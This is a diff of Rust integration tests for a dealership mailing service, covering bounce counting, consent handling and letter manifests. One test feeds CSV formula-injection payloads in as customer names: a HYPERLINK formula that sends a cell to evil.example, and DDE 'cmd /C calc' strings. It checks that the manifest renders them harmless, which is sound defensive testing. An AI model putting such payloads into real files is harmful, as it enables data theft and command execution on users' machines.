@@ -348,14 +348,14 @@ impl Rig {
     /// later round than the first, so the first one's round had ended.
     async fn full_round(&self) {
         for _ in 0..2 {
-            let before = self.status().await.bounces_processed;
+            let before = mails_read(&self.status().await);
             self.maildir
                 .deliver(
                     b"From: someone@example.org\r\nTo: postmaster@bounce.touchpoint.invalid\r\n\
                       Subject: hello\r\nMessage-ID: <round@example.org>\r\n\r\nabout nothing\r\n",
                 )
                 .expect("deliver into the maildir");
-            self.wait_status("the maildir read", |s| s.bounces_processed > before)
+            self.wait_status("the maildir read", |s| mails_read(s) > before)
                 .await;
         }
     }
@@ -369,6 +369,11 @@ impl Rig {
         self.wait_status("the new brand policy in force", in_force)
             .await;
     }
+}
+
+/// Mails the dispatcher has read from the bounce maildir, of every kind.
+fn mails_read(s: &DispatchStatus) -> u64 {
+    s.bounces_processed + s.unsubscribes_processed + s.autoreplies_processed + s.mails_ignored
 }
 
 /// `(tenant, id)` of a message the relay received, from its Message-ID
@@ -508,15 +513,14 @@ fn manifest_rows(path: &Path) -> Vec<BTreeMap<String, String>> {
     let text = std::fs::read_to_string(path)
         .unwrap_or_else(|e| panic!("manifest {}: {e}", path.display()));
     let mut lines = text.lines();
-    let header: Vec<&str> = lines.next().expect("a header").split(',').collect();
+    let header = cells_as_split_by(lines.next().expect("a header"), ',');
     assert_eq!(header[..2], ["sequence", "message"], "{text}");
     lines
         .map(|l| {
-            // No field of these fixtures holds a comma or a quote.
             header
                 .iter()
-                .zip(l.split(','))
-                .map(|(k, v)| (k.to_string(), v.to_string()))
+                .cloned()
+                .zip(cells_as_split_by(l, ','))
                 .collect()
         })
         .collect()
@@ -584,7 +588,7 @@ async fn a_5xx_turns_the_email_into_a_letter_or_fails_it_when_no_letter_may_go()
         (&email.recipient, &email.service, &email.occasions)
     );
     assert!(
-        said(&letter, &format!("fallback: email #{max} failed ({refusal}); sent as a letter instead: postal consent")),
+        said(&letter, &format!("fallback: email #{max} failed ({refusal}); sent as a letter instead: post: consent given")),
         "{:#?}",
         letter.why
     );
@@ -595,7 +599,7 @@ async fn a_5xx_turns_the_email_into_a_letter_or_fails_it_when_no_letter_may_go()
     );
 
     for (id, reason) in [
-        (paul, "no letter instead: postal advertising refused"),
+        (paul, "no letter instead: post: consent withdrawn"),
         (lena, "no letter instead: no complete postal address"),
     ] {
         let m = rig
@@ -1111,7 +1115,7 @@ async fn bounces_and_unsubscribes_from_the_maildir_stop_email_to_the_address() {
         })
         .await;
     }
-    let before = rig.status().await.bounces_processed;
+    let before = mails_read(&rig.status().await);
 
     // Hard bounces to the return paths the relay saw; K-202's arrives twice.
     let to_max = only(&got, max);
@@ -1134,8 +1138,19 @@ async fn bounces_and_unsubscribes_from_the_maildir_stop_email_to_the_address() {
     rig.maildir
         .deliver(&out_of_office(&to_sofia.from, sofia, &mid(to_sofia)))
         .expect("deliver");
-    rig.wait_status("the five mails read", |s| s.bounces_processed >= before + 5)
+    let s = rig
+        .wait_status("the five mails read", |s| mails_read(s) >= before + 5)
         .await;
+    // Three bounce reports (one twice), an unsubscribe, an absence notice.
+    assert_eq!(
+        (
+            s.bounces_processed,
+            s.unsubscribes_processed,
+            s.autoreplies_processed,
+            s.mails_ignored
+        ),
+        (3, 1, 1, 0)
+    );
 
     // A birthday greeting goes by email only: failed.
     let m = rig.message("s001", first["K-201"].id).await;
@@ -1301,4 +1316,398 @@ async fn every_letter_lands_in_a_complete_batch_even_past_the_days_99th() {
         refused.len()
     );
     assert_eq!((pdfs.len(), &pdfs), (LETTERS, &csvs));
+}
+
+// ----- files people open in a spreadsheet ------------------------------------------------
+
+/// The cells of a CSV line as a spreadsheet splits them with `delimiter`:
+/// quoted fields whole (`""` a quote), the rest cut at every `delimiter`.
+fn cells_as_split_by(line: &str, delimiter: char) -> Vec<String> {
+    let mut cells = vec![String::new()];
+    let mut quoted = false;
+    let mut chars = line.chars().peekable();
+    while let Some(c) = chars.next() {
+        let cell = cells.last_mut().expect("a cell");
+        match c {
+            '"' if quoted && chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            '"' => quoted = !quoted,
+            c if c == delimiter && !quoted => cells.push(String::new()),
+            c => cell.push(c),
+        }
+    }
+    cells
+}
+
+/// Whether a spreadsheet would take a cell as a formula: it begins, after
+/// blanks, with `=`, `+`, `-` or `@` and is not simply a number.
+fn is_formula(cell: &str) -> bool {
+    let t = cell.trim_start();
+    let plain_number = t
+        .strip_prefix(['+', '-'])
+        .unwrap_or(t)
+        .chars()
+        .all(|c| c.is_ascii_digit() || c == '.' || c == ',');
+    t.starts_with(['=', '+', '-', '@', '\t', '\r']) && !plain_number
+}
+
+/// Customer names that are spreadsheet formulas reach the lettershop's
+/// manifest as text: kept, but led by `'`, quoted where they hold a
+/// separator, so that neither a comma nor a semicolon spreadsheet runs any
+/// of them, whichever separator it splits the lines at.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn formulas_in_customer_names_reach_the_letter_manifest_as_text() {
+    let rig = Rig::start(&["s001"]);
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1;\"Rechnung\")",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "+49 89 1234567",
+        "Kundin;=1+2",
+        "Kundin,@A1",
+    ];
+    let mut csv = String::from(
+        "Kundennummer;Anrede;Vorname;Nachname;Firma;Straße;PLZ;Ort;E-Mail;Telefon;Geburtsdatum;FIN;Marke;Modell;Erstzulassung;Letzter Service;km-Stand;Nächste HU;Garantieende;Einwilligung E-Mail;Einwilligung Post;Einwilligungsdatum\r\n",
+    );
+    for (i, name) in names.iter().enumerate() {
+        csv.push_str(&format!(
+            "K-{no};Frau;;\"{name}\";;Postweg {house};{plz};München;;;;WNWZZZ3CZNB{vin:06};Nordwagen;Fjord;15.03.2022;20.01.2026;12.000;10.12.2026;;nein;ja;01.02.2024\r\n",
+            no = 4000 + i,
+            name = name.replace('"', "\"\""),
+            house = i + 1,
+            plz = 80331 + i,
+            vin = 400_000 + i,
+        ));
+    }
+    let export = rig.d.dir.path().join("kunden-formeln.csv");
+    std::fs::write(&export, csv).expect("write export");
+    rig.import("s001", &export).await;
+    let planned = rig.plan("s001", day(2026, 11, 16)).await;
+    assert_eq!(planned.len(), names.len(), "{:#?}", planned.keys());
+    assert!(planned.values().all(|m| m.channel == Channel::Post));
+    let batches = rig
+        .client()
+        .await
+        .run_batches(Some(&tid("s001")))
+        .await
+        .expect("run batches");
+    assert_eq!(batches.len(), 1, "{batches:?}");
+    let m = rig.message("s001", planned["K-4000"].id).await;
+    let manifest = rig
+        .d
+        .state_dir
+        .join("letters/s001")
+        .join(&m.dispatch.batch)
+        .with_extension("csv");
+    let text = std::fs::read_to_string(&manifest).expect("manifest");
+
+    for delimiter in [',', ';'] {
+        for line in text.lines() {
+            let formulas: Vec<String> = cells_as_split_by(line, delimiter)
+                .into_iter()
+                .filter(|c| is_formula(c))
+                .collect();
+            assert!(
+                formulas.is_empty(),
+                "split at {delimiter:?}, {line:?} has formulas {formulas:?}"
+            );
+        }
+    }
+    let mut in_manifest: Vec<String> = text
+        .lines()
+        .skip(1)
+        .map(|l| cells_as_split_by(l, ',')[3].clone())
+        .collect();
+    in_manifest.sort();
+    let mut expected: Vec<String> = names
+        .iter()
+        .map(|n| {
+            if n.starts_with(['=', '+', '-', '@']) {
+                format!("'{n}")
+            } else {
+                n.to_string()
+            }
+        })
+        .collect();
+    expected.sort();
+    assert_eq!(in_manifest, expected, "{text}");
+}
+
+// ----- call outcomes -----------------------------------------------------------------------
+
+/// An outcome file that names a letter (a task id mistyped, or the
+/// manifest sent back for the call list): `touchpoint calls import` refuses
+/// that row with its line and why, fails, and the letter stays as it was.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_call_outcome_for_a_letter_is_refused_with_its_line() {
+    let rig = Rig::start(&["s001"]);
+    let export = rig.d.dir.path().join("kunden-post.csv");
+    customers(&export, &[None]);
+    rig.import("s001", &export).await;
+    let planned = rig.plan("s001", day(2026, 11, 16)).await;
+    let letter = planned.values().next().expect("a letter").id;
+    let batches = rig
+        .client()
+        .await
+        .run_batches(Some(&tid("s001")))
+        .await
+        .expect("run batches");
+    assert_eq!(batches.len(), 1, "{batches:?}");
+    let before = rig.message("s001", letter).await;
+    assert_eq!(
+        (before.channel, before.status),
+        (Channel::Post, MessageStatus::Sent)
+    );
+
+    let file = rig.d.dir.path().join("ergebnisse.csv");
+    std::fs::write(
+        &file,
+        format!("task_id;outcome;minutes;note\ns001.{letter};abgelehnt;2;\n"),
+    )
+    .expect("write outcomes");
+    let out = touchpoint_tests::touchpoint(
+        &rig.d.socket,
+        &["calls", "import", &file.display().to_string()],
+    );
+    let said = format!(
+        "{}{}",
+        String::from_utf8_lossy(&out.stdout),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(!out.status.success(), "{said}");
+    assert!(
+        said.contains(&format!(
+            "ergebnisse.csv:2: task_id: s001.{letter}: a letter (post), not a call task; \
+             outcome not applied"
+        )),
+        "{said}"
+    );
+    assert_eq!(rig.message("s001", letter).await, before);
+}
+
+// ----- consent of merged customers ------------------------------------------------------
+
+/// A dealer export row: a person at an address with an email and a car
+/// whose HU is due on 2026-12-10, with email consent `email` stated on
+/// `dated` (dd.mm.yyyy).
+fn person_row(
+    no: &str,
+    last: &str,
+    street: &str,
+    email: &str,
+    consent: &str,
+    dated: &str,
+    vin: u32,
+) -> String {
+    format!(
+        "{no};Frau;Anna;{last};;{street};80331;München;{email};;;WNWZZZ3CZNB{vin:06};Nordwagen;Fjord;\
+         15.03.2022;20.01.2026;12.000;10.12.2026;;{consent};ja;{dated}\r\n"
+    )
+}
+
+const EXPORT_HEADER: &str = "Kundennummer;Anrede;Vorname;Nachname;Firma;Straße;PLZ;Ort;E-Mail;Telefon;Geburtsdatum;FIN;Marke;Modell;Erstzulassung;Letzter Service;km-Stand;Nächste HU;Garantieende;Einwilligung E-Mail;Einwilligung Post;Einwilligungsdatum\r\n";
+
+/// Two customer numbers of one person (merged by identity) with
+/// conflicting email consents: the planner and dispatch read them alike.
+/// K-5000 said no in 2024 and, as K-5001, yes in 2025: the email is
+/// planned and goes. K-6000 and K-6001 both said yes; after planning,
+/// K-6001 says no: the email does not go, and the queue's last error says
+/// why.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn merged_customers_consent_is_read_alike_when_planned_and_when_sent() {
+    let rig = Rig::start(&["s001"]);
+    rig.client()
+        .await
+        .pause(Default::default())
+        .await
+        .expect("pause");
+    let (anna, berta) = ("anna.berg@example.de", "berta.stein@example.de");
+    let export = rig.d.dir.path().join("kunden-doppelt.csv");
+    std::fs::write(
+        &export,
+        [
+            EXPORT_HEADER.to_string(),
+            person_row(
+                "K-5000",
+                "Berg",
+                "Postweg 1",
+                anna,
+                "nein",
+                "01.02.2024",
+                500,
+            ),
+            person_row("K-5001", "Berg", "Postweg 1", anna, "ja", "01.06.2025", 501),
+            person_row(
+                "K-6000",
+                "Stein",
+                "Hafenstraße 9",
+                berta,
+                "ja",
+                "01.02.2024",
+                600,
+            ),
+            person_row(
+                "K-6001",
+                "Stein",
+                "Hafenstraße 9",
+                berta,
+                "ja",
+                "01.02.2024",
+                601,
+            ),
+        ]
+        .concat(),
+    )
+    .expect("write export");
+    rig.import("s001", &export).await;
+    let planned = rig.plan("s001", day(2026, 11, 16)).await;
+    assert_eq!(
+        planned
+            .values()
+            .map(|m| (m.recipient.as_str(), m.channel))
+            .collect::<Vec<_>>(),
+        [("K-5000", Channel::Email), ("K-6000", Channel::Email)],
+        "{planned:#?}"
+    );
+    assert!(
+        said(
+            &planned["K-5000"],
+            "email: consent given 2025-06-01 (import:kunden-doppelt.csv; customer K-5001)"
+        ),
+        "{:#?}",
+        planned["K-5000"].why
+    );
+
+    // K-6001 withdraws after planning, in the dealer's next export.
+    let later = rig.d.dir.path().join("kunden-widerruf.csv");
+    std::fs::write(
+        &later,
+        [
+            EXPORT_HEADER.to_string(),
+            person_row(
+                "K-6001",
+                "Stein",
+                "Hafenstraße 9",
+                berta,
+                "nein",
+                "01.11.2026",
+                601,
+            ),
+        ]
+        .concat(),
+    )
+    .expect("write export");
+    rig.import("s001", &later).await;
+    rig.client()
+        .await
+        .resume(Default::default())
+        .await
+        .expect("resume");
+
+    let sent = rig
+        .wait_message("s001", planned["K-5000"].id, "settled", |m| {
+            matches!(m.status, MessageStatus::Sent | MessageStatus::Cancelled)
+        })
+        .await;
+    assert_eq!(sent.status, MessageStatus::Sent, "{:#?}", sent.history);
+    let got = rig
+        .wait_sink("the email to K-5000", |g| !to(g, anna).is_empty())
+        .await;
+    assert_eq!(to(&got, anna).len(), 1);
+
+    let id = planned["K-6000"].id;
+    let stopped = rig
+        .wait_message("s001", id, "cancelled", |m| {
+            m.status == MessageStatus::Cancelled
+        })
+        .await;
+    let out = touchpoint_tests::touchpoint(&rig.d.socket, &["queue", "--json", "status:cancelled"]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let page: serde_json::Value = serde_json::from_slice(&out.stdout).expect("queue json");
+    let row = page["rows"]
+        .as_array()
+        .and_then(|rows| rows.iter().find(|r| r["id"] == id))
+        .unwrap_or_else(|| panic!("message {id} not in {page:#}"));
+    let last_error = row["last_error"].as_str().unwrap_or_default();
+    assert!(
+        last_error.starts_with("email: consent withdrawn 2026-11-01 (")
+            && last_error.ends_with("; customer K-6001)"),
+        "queue last error {last_error:?}; history {:#?}",
+        stopped.history
+    );
+    rig.full_round().await;
+    assert!(
+        to(&rig.sink.messages(), berta).is_empty(),
+        "the withdrawn email went out"
+    );
+}
+
+// ----- what the bounce maildir held ----------------------------------------------------
+
+/// `touchpoint dispatch` counts the mails of the bounce maildir by what
+/// they were: a bounce, an unsubscribe, an automatic reply, or a mail that
+/// matched none of our messages or could not be trusted (ignored). Only
+/// the bounce counts as a bounce.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_bounce_maildir_is_counted_by_kind_of_mail() {
+    let rig = Rig::start(&["s001"]);
+    rig.import("s001", &dispatch_fixture("kunden-bounces.csv"))
+        .await;
+    let planned = rig.plan("s001", day(2026, 11, 2)).await;
+    let got = rig.wait_sink("all four", |g| g.len() >= 4).await;
+    for m in planned.values() {
+        rig.wait_message("s001", m.id, "sent", |m| m.status == MessageStatus::Sent)
+            .await;
+    }
+    let (max, paul, sofia) = (
+        "max.sommer@example.de",
+        "paul.herbst@example.de",
+        "sofia.nebel@mailbox.example",
+    );
+    let mid = |r: &Received| {
+        r.parsed()
+            .and_then(|p| p.message_id().map(str::to_string))
+            .expect("Message-ID")
+    };
+    let to_max = only(&got, max);
+    // A return path with its signature changed: forged.
+    let forged = {
+        let (local, domain) = to_max.from.split_once('@').expect("an address");
+        let last = local.chars().last().expect("a tag");
+        let other = if last == 'a' { 'b' } else { 'a' };
+        format!("{}{other}@{domain}", &local[..local.len() - 1])
+    };
+    let mails = [
+        hard_bounce(&to_max.from, max, &mid(to_max)),
+        unsubscribe_mail(&unsubscribe_address(only(&got, paul)), paul),
+        out_of_office(&only(&got, sofia).from, sofia, &mid(only(&got, sofia))),
+        hard_bounce(&forged, max, "tp.s001.999@autohaus-versand.example"),
+        b"From: someone@example.org\r\nTo: postmaster@bounce.touchpoint.invalid\r\n\
+          Subject: hello\r\nMessage-ID: <hello@example.org>\r\n\r\nabout nothing\r\n"
+            .to_vec(),
+    ];
+    for mail in &mails {
+        rig.maildir.deliver(mail).expect("deliver");
+    }
+    let deadline = Instant::now() + WAIT;
+    while !rig.maildir.pending().expect("maildir").is_empty() {
+        assert!(Instant::now() < deadline, "the maildir was not read");
+        tokio::time::sleep(POLL).await;
+    }
+
+    let out = touchpoint_tests::touchpoint(&rig.d.socket, &["dispatch"]);
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(out.status.success(), "{text}");
+    assert!(
+        text.lines()
+            .any(|l| l == "bounce mail  bounces 1  unsubscribes 1  auto-replies 1  ignored 2"),
+        "{text}"
+    );
+    assert!(!text.contains("  bounces 5"), "{text}");
 }
